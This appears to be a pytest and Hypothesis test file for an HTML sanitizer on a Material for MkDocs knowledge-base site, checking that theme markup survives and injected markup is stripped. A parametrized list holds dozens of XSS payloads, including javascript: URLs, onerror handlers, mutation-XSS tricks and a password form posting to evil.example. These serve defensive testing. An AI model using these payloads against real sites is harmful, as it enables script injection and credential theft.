"""Nothing that an article holds may run in the reader's browser, and nothing that Material's extensions make may be lost."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser
from typing import Any

import markdown
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kb_tools.errors import ConfigError
from kb_tools.site.clean import NEVER, clean_meta, clean_title, cleaner

clean = cleaner()

EXTENSIONS = """abbr admonition attr_list def_list footnotes md_in_html tables toc pymdownx.details
    pymdownx.superfences pymdownx.tabbed pymdownx.tasklist pymdownx.highlight pymdownx.keys pymdownx.mark pymdownx.caret
    pymdownx.tilde pymdownx.arithmatex pymdownx.emoji""".split()

EVERYTHING = """
# Title {: .wide #own-id }

| a | b |
|---|--:|
| 1 | 2 |

- [x] done
- [ ] to do

=== "Windows 11"
    1. one

=== "macOS"
    text

!!! note "Hi"
    x[^1]

??? tip "Fold"
    body

``` py linenums="1" hl_lines="2" title="a.py"
x = 1
y = 2
```

++ctrl+c++ ==mark== ~~del~~ H~2~O $a^2$ :smile: VPN [go](other.md){ .md-button .md-button--primary } <kbd>F5</kbd>

![i](a.png){ align=right loading=lazy width=3 }

<figure markdown>
  ![i](a.png)
  <figcaption>What they see</figcaption>
</figure>

<div class="grid cards" markdown>

- one
- two

</div>

Term
:   What it is

*[VPN]: Virtual
[^1]: foot
"""


class Parts(HTMLParser):
    """The tags and attributes of a text, as a parser of its own sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def test_what_material_makes_stays_as_it_is() -> None:
    html = markdown.markdown(
        EVERYTHING, extensions=EXTENSIONS,
        extension_configs={
            "pymdownx.tabbed": {"alternate_style": True},
            "pymdownx.tasklist": {"custom_checkbox": True},
            "pymdownx.highlight": {"anchor_linenums": True, "line_spans": "__span"},
            "pymdownx.arithmatex": {"generic": True},
            "tables": {"use_align_attribute": True},
            "toc": {"permalink": True},
        },
    )  # fmt: skip
    before, after = Parts(html), Parts(clean(html))
    assert after.words == before.words
    # A browser adds <tbody>, so does the library.
    kept = [part for part in after.found if part[0] != "tbody"]
    assert [(tag, _plain(attributes)) for tag, attributes in kept] == [
        (tag, _plain(attributes)) for tag, attributes in before.found if tag != "tbody"
    ]


def _plain(attributes: dict[str, str | None]) -> dict[str, str]:
    return {
        name: "" if name in ("checked", "disabled", "markdown") else value or "" for name, value in attributes.items()
    }


def test_icons_stay() -> None:
    icon = '<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M21 7"></path></svg></span>'
    assert clean(icon) == icon


@pytest.mark.parametrize(
    "html",
    [
"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>", "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
        "<a href='vbscript:x'>x</a>", "<iframe src=//evil.example></iframe>", "<object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=password><button>Go</button></form>",
        "<style>body{display:none}</style>", "<p style='position:fixed;inset:0'>x</p>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<svg onload=alert(1)><script>alert(1)</script><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></title></svg>",
        "<template><script>1</script></template>", "<video poster='javascript:1' src=x onplay=1></video>",
        "<img srcset='javascript:1 2x, a.png'>", "<details ontoggle=x open>x</details>",
        "<input type=text autofocus onfocus=x>", "<input type=image src=x>",
        "<input type='checkbox\n' formaction=javascript:x>", '<div id=__config>{"base": "//evil.example"}</div>',
        "<div id=__search data-md-component=search>x</div>", "<a class='md-overlay' href='//evil.example'>x</a>",
        "<p data-kb-article=x class=kb-head>x</p>", "<a href=x ping=//evil.example>x</a>",
        "<isindex action=javascript:1>", "<marquee onstart=x>x</marquee>", "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>x</script>]]>", "<scr<script>ipt>alert(1)</script>", "<img src=x:alert(1) onerror=eval(src)>",
        "<body onload=x><html onload=x>",
    ],
)  # fmt: skip
def test_what_can_run_or_mislead_is_taken_out(html: str) -> None:
    assert_harmless(clean(f"<p>before</p>{html}<p>after</p>"))


def assert_harmless(html: str) -> None:
    for tag, attributes in Parts(html).found:
        assert (
            tag
            not in "script style iframe object embed form button base meta link template textarea select math".split()
        )
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-md", "data-kb", "xlink", "form"))
            assert name not in ("style", "ping", "action", "srcdoc")
            if name in ("href", "src", "poster", "srcset", "cite"):
                assert not re.match(rf"[\s\x00-\x20]*(?:{'|'.join(NEVER)})\s*:", value or "", re.I)
        assert not re.match(r"__(?!tabbed_|codelineno|span|code_)", attributes.get("id") or "")
        assert not re.search(r"\bmd-(?!button)|\bkb-", attributes.get("class") or "")
        if tag == "input":
            assert attributes.get("type") in ("checkbox", "radio")


PIECES = st.sampled_from(
    "<script> </script> <style> </style> <img src=x onerror=y> <svg> </svg> <math> <p> </p> <a href= javascript: data: \" ' > < "
    "<!-- --> <noscript> </noscript> <title> <textarea> <table> <template> <input type= text checkbox> &lt; &#x3c; id=__config "
    "class=md-x \0 \u2028 onload= = x <xmp> <plaintext> <select> <frameset> <b".split(" ")
)


@given(st.lists(PIECES, max_size=14).map(" ".join) | st.lists(PIECES, max_size=14).map("".join))
@example('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">')
def test_no_mixture_gets_through_and_a_second_time_changes_nothing(html: str) -> None:
    once = clean(html)
    assert_harmless(once)
    assert clean(once) == once


def test_a_team_may_link_to_its_own_programs_but_never_to_code() -> None:
    link = '<a href="ms-settings:network">Settings</a>'
    assert "href" not in clean(link)
    assert cleaner(["ms-settings:"])(link) == link
    with pytest.raises(ConfigError, match="javascript"):
        cleaner(["JavaScript:"])


def test_ordinary_links_and_anchors_stay() -> None:
    html = (
        '<a href="../vpn/#say" title="x">a</a><a href="tel:+49301234">b</a><a href="https://example.org/?a=1&amp;b=2" '
        'target="_blank" rel="noopener">c</a><h2 id="kb-check">kb check</h2>'
    )
    assert clean(html) == html


def test_the_place_of_the_tag_list_stays_where_tags_of_articles_go_later() -> None:
    assert clean("<p>a</p><!-- material/tags --><!-- secret -->") == "<p>a</p><!-- material/tags -->"


@given(
    st.recursive(
        st.text() | st.integers() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
    )
)
@example({"title": "</title><script>alert(1)</script>", "tags": ['"><b>']})
def test_front_matter_cannot_break_out_of_where_a_theme_prints_it(value: Any) -> None:
    once = clean_meta(value)
    assert clean_meta(once) == once

    def texts(value: Any) -> list[str]:
        if isinstance(value, dict):
            return [text for item in value.values() for text in texts(item)]
        return (
            [text for item in value for text in texts(item)]
            if isinstance(value, list)
            else [value] * isinstance(value, str)
        )

    assert not any(mark in text for text in texts(once) for mark in "<>\"'")
    if isinstance(value, str) and not any(mark in value for mark in "<>\"'&"):
        assert once == value


@given(st.lists(st.sampled_from('</title> <script> &lt; &gt; &amp;lt; &#60; alert(1) & " a'.split(" "))).map("".join))
def test_a_title_has_no_markup_however_often_a_theme_resolves_it(title: str) -> None:
    once = clean_title(title)
    assert not set("<>") & set(unescape(once))
    if not set("<>") & set(unescape(title)):
        assert once == title


def test_a_label_may_open_the_search_but_nothing_else_of_the_theme() -> None:
    label = '<label class="md-button" for="__search">Search</label>'
    assert cleaner()(label) == label
    assert "for" not in cleaner()('<label for="__drawer">x</label>')


def test_a_page_that_an_article_links_to_does_not_get_hold_of_ours() -> None:
    assert cleaner()('<a href="https://x.example/" target="_blank" rel="OPENER">x</a>') == (
        '<a href="https://x.example/" target="_blank">x</a>'
    )
    kept = '<a href="https://x.example/" rel="noopener me">x</a>'
    assert cleaner()(kept) == kept
